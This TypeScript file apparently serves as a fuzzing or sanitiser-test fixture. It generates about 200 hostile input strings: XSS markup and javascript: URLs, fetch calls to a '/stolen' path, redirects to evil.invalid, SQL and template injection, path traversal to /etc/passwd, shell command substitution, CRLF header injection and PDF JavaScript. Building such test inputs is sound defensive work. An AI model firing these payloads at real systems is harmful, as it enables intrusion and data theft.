/** 200 texts that would act if they were taken for anything but text: markup, addresses, styles, templates, statements, control signs. `origin` is where they would ask. */
export const hostileStrings = (origin: string): string[] => {
  const acts = ['alert(1)', `fetch('${origin}/stolen')`, "top.location='https://evil.invalid/'", 'document.write(1)']
  const markup = acts.flatMap((act) => [
    `<script>${act}</script>`, `<img src=x onerror="${act}">`, `<svg onload="${act}">`, `"><script>${act}</script>`, `'><img src=x onerror=${act}>`, `</title><script>${act}</script>`,
    `</textarea><script>${act}</script>`, `<iframe srcdoc="<script>${act}</script>">`, `<a href="javascript:${act}">x</a>`, `<body onload=${act}>`, `<input autofocus onfocus=${act}>`,
    `<details open ontoggle=${act}>`, `<math><mtext><script>${act}</script>`, `<style>@import 'https://evil.invalid/x.css'</style>${act}`, `<base href="https://evil.invalid/">${act}`, `<meta http-equiv="refresh" content="0;url=https://evil.invalid/">${act}`,
    `<form action="https://evil.invalid/"><button>${act}</button></form>`, `<object data="javascript:${act}">`, `<embed src="javascript:${act}">`, `<link rel=stylesheet href="https://evil.invalid/">${act}`, `<video><source onerror="${act}"></video>`,
    `&lt;script&gt;${act}&lt;/script&gt;`, `<scr<script>ipt>${act}</script>`, `<!--><script>${act}</script>-->`, `<![CDATA[<script>${act}</script>]]>`,
  ])
  const addresses = acts.flatMap((act) => [
    `javascript:${act}`, `JaVaScRiPt:${act}`, ` javascript:${act}`, `java\nscript:${act}`, `java\tscript:${act}`, `\u0001javascript:${act}`, `data:text/html,<script>${act}</script>`, `vbscript:${act}`, `blob:${origin}/${encodeURIComponent(act)}`, `view-source:javascript:${act}`,
    `//evil.invalid/?${encodeURIComponent(act)}`, `https://evil.invalid\\@${origin}/${encodeURIComponent(act)}`, `file:///etc/passwd#${act}`, `mailto:x@evil.invalid?bcc=y@evil.invalid%0aSubject:${encodeURIComponent(act)}`,
  ])
  const others = [
    "'; drop table policies; --", '" or 1=1 --', '${7*7}', '{{7*7}}', '{{constructor.constructor("alert(1)")()}}', '<%= 7*7 %>', '#{7*7}', '=HYPERLINK("https://evil.invalid")', '+cmd|calc', '@SUM(1)', '-2+3', '../../../../etc/passwd', '%00', '\u202Eexe.fdp', '\uFEFF', '\u200B\u200D',
    '\r\nSet-Cookie: session=x', '\r\nBcc: evil@evil.invalid', '(/JS (app.alert\\(1\\)) >> endobj', 'endstream endobj 1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>', ') Tj ET Q /URI (https://evil.invalid)', '\\', '\\\\server\\share', '`id`', '$(id)', '|| sleep 5', '[x](javascript:alert(1))', '![x](https://evil.invalid/x.png)',
    'expression(alert(1))', 'background:url(https://evil.invalid/x.png)', '-moz-binding:url(//evil.invalid)', '__proto__', 'constructor', '[object Object]', 'NaN', '𝕊𝕔𝕣𝕚𝕡𝕥', '👩‍👩‍👧‍👦', 'ﷺ'.repeat(20), 'a'.repeat(500), 'Z̷̢̛͓'.repeat(20), '<', '>', '&', '"', "'",
  ]
  return [...markup, ...addresses, ...others].slice(0, 200)
}
